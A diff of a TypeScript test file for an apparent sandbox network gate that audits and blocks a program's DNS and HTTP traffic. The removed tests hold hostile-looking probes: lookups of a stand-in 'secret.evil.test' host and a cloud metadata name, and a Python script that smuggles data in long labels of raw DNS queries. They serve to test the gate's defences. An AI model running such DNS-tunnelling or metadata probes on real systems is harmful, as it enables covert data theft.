@@ -1,119 +1,17 @@
-import { spawn, type ChildProcess } from 'node:child_process';
-import { once } from 'node:events';
-import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import { tmpdir } from 'node:os';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Duplex } from 'node:stream';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
-import { newKey, publicKeyOf } from '../../src/audit/chain.js';
-import type { AuditRecord } from '../../src/audit/event.js';
+import { describe, expect, test } from 'vitest';
 import { readLog } from '../../src/audit/read.js';
-import { verifyLog } from '../../src/audit/verify.js';
-import { openAudit, type Audit } from '../../src/audit/write.js';
 import { fromText } from '../../src/bytes.js';
 import { askSandbox, type ControlReply } from '../../src/gate/control.js';
-import { startGate, type Gate, type GateOptions } from '../../src/gate/gate.js';
-import { makeRecords } from '../../src/gate/records.js';
-import { parsePublish } from '../../src/gate/publish.js';
 import { native as kernel } from '../../src/kernel/native.js';
-import type { CompiledPolicy } from '../../src/policy/compiled.js';
-import { serveOnLoopback } from '../helpers/loopback.js';
 import { eventually, python } from '../helpers/sandbox.js';
 import { needs } from '../helpers/needs.js';
 import { startProxy } from '../helpers/proxy.js';
-import { policyOf as compilePolicyOf } from '../policy/make.js';
-import { buildHarness, HARNESS, sh } from './harness.js';
+import { sh } from './harness.js';
+import { answerHeld, curl, dir, finish, letGo, policyOf, port, question, start, waits } from './running.js';
 
 const withCurl = needs('curl');
-
-const web = createServer((request, response) => {
-  const answer = (): void => void response.end(`hello ${request.headers.host ?? ''}\n`);
-  if (request.url === '/held') answerHeld = answer;
-  else answer();
-});
-let answerHeld = (): void => undefined;
-let dir = '';
-/** What the program waits for until `letGo`, where nobody else may look. */
-let waits = '';
-let letGo = (): void => undefined;
-let places: readonly string[] = [];
-let port = 0;
-
-beforeAll(async () => {
-  buildHarness();
-  port = await serveOnLoopback(web);
-});
-afterAll(() => web.close());
-beforeEach(() => {
-  dir = mkdtempSync(join(tmpdir(), 'agentfw-session-'));
-  chmodSync(dir, 0o700);
-  const place = mkdtempSync(join(tmpdir(), 'agentfw-session-go-'));
-  chmodSync(place, 0o755);
-  waits = `until test -e ${place}/go; do sleep 0.02; done`;
-  letGo = () => writeFileSync(join(place, 'go'), '');
-  places = [dir, place];
-});
-afterEach(() => places.forEach((place) => rmSync(place, { recursive: true })));
-
-/** Everything asks, but for what is listed: names on this test's own loopback server, so `private`. */
-async function policyOf(rules: { allow?: string[]; deny?: string[] }): Promise<CompiledPolicy> {
-  const allow = (rules.allow ?? []).map((host) => ({ host, ports: 'any', private: true, id: 'test.allow' }));
-  const text = JSON.stringify({ version: 1, network: { allow, deny: (rules.deny ?? []).map((host) => ({ host, id: 'test.deny' })), default: 'ask' } });
-  return await compilePolicyOf({ user: text });
-}
-
-interface Running {
-  readonly gate: Gate;
-  readonly audit: Audit;
-  readonly child: ChildProcess;
-  readonly done: Promise<{ status: number; out: string }>;
-}
-
-let ids = 0;
-async function start(argv: readonly string[], policy: CompiledPolicy, more: Partial<GateOptions['ask']> & Pick<Partial<GateOptions>, 'publish' | 'upstream'> = {}, onResolve: (name: string) => Promise<void> | void = () => undefined): Promise<Running> {
-  const root = process.getuid?.() === 0 ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'] : [];
-  const command = [...root, HARNESS, '--', ...argv];
-  const child = spawn(command[0]!, command.slice(1), { stdio: ['ignore', 'pipe', 'ignore', 'ignore', 'ignore', 'pipe'], env: { PATH: '/usr/bin:/bin', HOME: '/' }, cwd: '/' });
-  let out = '';
-  child.stdout?.on('data', (chunk: Buffer) => (out += chunk.toString('utf8')));
-  const done = once(child, 'close').then(([code]) => ({ status: (code as number | null) ?? 128, out }));
-  const audit = openAudit({ kernel, dir: fromText(dir), tag: 't', policy: policy.digest, now: () => new Date(), onFull: 'stop' });
-  const gate = await startGate({
-    ...{ stream: (child.stdio as unknown as Duplex[])[5]!, policy, audit, dir, now: () => new Date(), newId: () => `q${(ids += 1)}` },
-    ask: { enabled: true, person: true, timeoutMs: 300_000, approver: null, onChanged: () => undefined, stored: [], store: () => undefined, ...more },
-    ...{ publish: more.publish ?? [], connectHost: new Map(), upstream: more.upstream ?? null, unusedProxy: null },
-    records: makeRecords({
-      resolveTxt: () => Promise.resolve([['hello text']]),
-      resolveMx: () => Promise.resolve([{ exchange: 'mail.a.test', priority: 1 }]),
-      resolveSrv: () => Promise.resolve([{ name: 'srv.a.test', port: 1, priority: 1, weight: 1 }]),
-    }),
-    resolve: async (name) => {
-      await onResolve(name);
-      return name.endsWith('.test') && name !== 'typo.test' && !name.endsWith('far.test') ? { kind: 'addresses', addresses: ['127.0.0.1'] } : { kind: 'none', missing: true, why: 'it does not exist' };
-    },
-  });
-  return { gate, audit, child, done };
-}
-
-async function finish({ gate, audit, done }: Running): Promise<{ status: number; out: string; log: AuditRecord[] }> {
-  const ended = await done;
-  await gate.session.ended;
-  gate.close();
-  const key = newKey();
-  audit.close(key);
-  expect(verifyLog(kernel, fromText(dir), 't', { publicKey: publicKeyOf(key), anchor: null })).toMatchObject({ ok: true, end: 'signed' });
-  return { ...ended, log: [...readLog(kernel, fromText(dir))] };
-}
-
-async function question(): Promise<{ id: string; rule: string }> {
-  return eventually('something is asked', async (): Promise<{ id: string; rule: string }> => {
-    const reply = await askSandbox(dir, { do: 'state' });
-    return (reply?.ok === true && 'state' in reply ? reply.state.questions[0] : undefined)!;
-  });
-}
-
-const curl = (host: string): string => `curl -s -m 300 http://${host}:${port}/`;
 const state = (reply: ControlReply | null): ControlReply & { ok: true; state: never } => reply as never;
 
 describe('a run behind policy, questions and records', () => {
@@ -362,78 +260,5 @@ subprocess.run(["sh", "-c", ${JSON.stringify(waits)}])`;
     expect(out).not.toContain('hello');
     expect(await run.gate.session.ended).not.toBeNull();
     run.gate.close();
-  });
-});
-
-describe('names', () => {
-  withCurl.test('NP01 an unknown name is not sent upstream; an allowed one that is missing looks missing', async () => {
-    const run = await start(sh(`getent hosts secret.evil.test; curl -sS -m 300 http://typo.test:${port}/ 2>&1; getent hosts metadata.google.internal || echo none`), await policyOf({ allow: ['*.evil2.test', 'typo.test:443'] }), { enabled: false });
-    const { out, log } = await finish(run);
-
-    expect(out).toMatch(/198\.19\.0\.1\s+secret\.evil\.test/);
-    expect(out).toContain('Could not resolve host: typo.test');
-    expect(out).toContain('none');
-    expect(log.filter(({ kind }) => kind === 'dns')).toMatchObject([
-      { object: { name: 'secret.evil.test' }, rule: 'net.lookup', verdict: 'allow', detail: { why: expect.stringContaining('nothing was asked upstream') as string } },
-      { object: { name: 'typo.test', type: 1 }, rule: 'test.allow', verdict: 'allow' },
-      { object: { name: 'metadata.google.internal' }, rule: 'net.metadata', verdict: 'deny' },
-    ]);
-  });
-
-  test('NP01 what is carried out in labels below an allowed domain is on record, name by name; nothing else leaves', async () => {
-    const code = `/usr/bin/python3 -c '
-import socket,struct
-def ask(name,type):
-  q=struct.pack(">HHHHHH",9,0x100,1,0,0,0)+b"".join(bytes([len(l)])+l for l in name.split(b"/"))+b"\\0"+struct.pack(">HH",type,1)
-  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.connect(("8.8.8.8",53)); s.send(q); s.recv(900)
-for i in range(20):
-  ask(b"a"*60+b"/"+b"b"*60+b"/%d/x/test" % i, (1,16)[i%2]); ask(b"c"*60+b"/%d/other/example" % i, 16); ask(b"n\\x00ul/x/test",1); ask(b"do\\x2et/x/test",1)
-ask(b"a"*60+b"/"+b"b"*60+b"/0/x/test",1)'`;
-    const asked: string[] = [];
-    const run = await start(sh(code), await policyOf({ allow: ['*.x.test'] }), { enabled: false }, (name) => void asked.push(name));
-    const { log } = await finish(run);
-
-    const names = Array.from({ length: 20 }, (_, i) => `${'a'.repeat(60)}.${'b'.repeat(60)}.${i}.x.test`);
-    const named = (isAsked: boolean): unknown[] => log.filter(({ kind, verdict, object }) => kind === 'dns' && verdict === 'allow' && (object['type'] !== undefined) === isAsked).map(({ object }) => object['name']);
-    expect(named(true)).toEqual(names);
-    const odd = ['n\\000ul.x.test', 'do\\046t.x.test'];
-    expect(named(false)).toEqual([`${'c'.repeat(60)}.0.other.example`, ...odd, ...Array.from({ length: 19 }, (_, i) => `${'c'.repeat(60)}.${i + 1}.other.example`)]);
-    expect(asked.every((name) => names.includes(name))).toBe(true);
-    expect(new Set(asked).size).toBe(10);
-  });
-});
-
-test('TXT, MX and SRV of an allowed name come from upstream, of others nothing does', async () => {
-  const dig = (name: string, type: number): string => `/usr/bin/python3 -c '
-import socket,struct
-q=struct.pack(">HHHHHH",9,0x100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in "${name}".split("."))+b"\\0"+struct.pack(">HH",${type},1)
-s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.connect(("8.8.8.8",53)); s.send(q); print(s.recv(900))'`;
-  const run = await start(sh(`${dig('a.test', 16)}; ${dig('b.test', 16)}; ${dig('a.test', 15)}; ${dig('a.test', 33)}`), await policyOf({ allow: ['a.test'] }), { enabled: false });
-  const { out } = await finish(run);
-
-  expect(out.match(/hello text/g)).toHaveLength(1);
-  expect(out).toMatch(/mail.*\n.*srv/s);
-});
-
-describe('`--publish`', () => {
-  test('a port that is taken ends the start, and is told', async () => {
-    await expect(start(sh('sleep 5'), await policyOf({}), { publish: [{ addr: '127.0.0.1', port, inside: 3000 }] })).rejects.toThrow(`Can't publish 127.0.0.1:${port}: EADDRINUSE`);
-  });
-
-  test('an address that no interface has ends the start, and the mend is told', async () => {
-    const failed = start(sh('sleep 5'), await policyOf({}), { publish: [{ addr: '192.0.2.99', port, inside: 3000 }] });
-
-    await expect(failed).rejects.toMatchObject({ message: `Can't publish 192.0.2.99:${port}: EADDRNOTAVAIL`, hint: expect.stringContaining('ip address') as string });
-  });
-
-  test.each([
-    ['3000', { addr: '127.0.0.1', port: 3000, inside: 3000 }], ['8080:3000', { addr: '127.0.0.1', port: 8080, inside: 3000 }],
-    ['0.0.0.0:8080:3000', { addr: '0.0.0.0', port: 8080, inside: 3000 }], ['[::1]:80', { addr: '::1', port: 80, inside: 80 }],
-  ])('%s', (text, expected) => {
-    expect(parsePublish(text)).toEqual(expected);
-  });
-
-  test.each(['', 'x', '0', '70000', '1:2:3', 'host.test:80', '1.2.3.4:5:6:7'])('%j is refused', (text) => {
-    expect(() => parsePublish(text)).toThrow('--publish');
   });
 });
